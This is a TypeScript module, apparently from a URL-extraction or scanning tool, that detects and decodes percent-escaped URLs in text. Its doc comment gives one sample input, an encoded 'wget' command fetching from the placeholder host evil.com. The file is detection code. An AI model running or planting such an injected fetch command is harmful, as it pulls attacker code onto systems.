import { decodePercent } from '../links/link-parts.ts';
import type { Reading } from '../extracted.ts';
import { note } from '../extracted.ts';
import { readUrl } from './find-url.ts';
import type { HostRun } from './host-name-run.ts';
import { readHostRun } from './host-name-run.ts';

/** `http%3A%2F%2F`, escaped up to three times over. */
const ENCODED = /(?:https?|ftp)%(?:25){0,2}3a(?:%(?:25){0,2}2f){2}[\w.~%*!-]+/iy;
/** Longest URL that is decoded, in characters. */
const MAX_ENCODED = 4096;

/** Reads a URL that stands percent-escaped in a text (`cmd=wget%20http%3A%2F%2Fevil.com%2Fa`); `run` is its scheme. Gives the place behind it, or -1. */
export function readEncodedUrl(reading: Reading, run: HostRun): number {
  const { text } = reading;
  ENCODED.lastIndex = run.start;
  if (!ENCODED.test(text)) return -1;
  const end = ENCODED.lastIndex;
  const url = end - run.start > MAX_ENCODED ? null : decoded(text.slice(run.start, end));
  if (url === null) return -1;
  const inner: Reading = { ...reading, text: url, found: [], from: 0 };
  if (readUrl(inner, readHostRun(url, 0)) < 0) return -1;
  for (const find of inner.found) note(reading, find.type, find.value, { start: run.start, end });
  return end;
}

/** Decoded as often as it takes to be a URL. */
function decoded(text: string): string {
  let url = text;
  for (let pass = 0; pass < 3 && !url.includes('://'); pass += 1) url = decodePercent(url);
  return url;
}
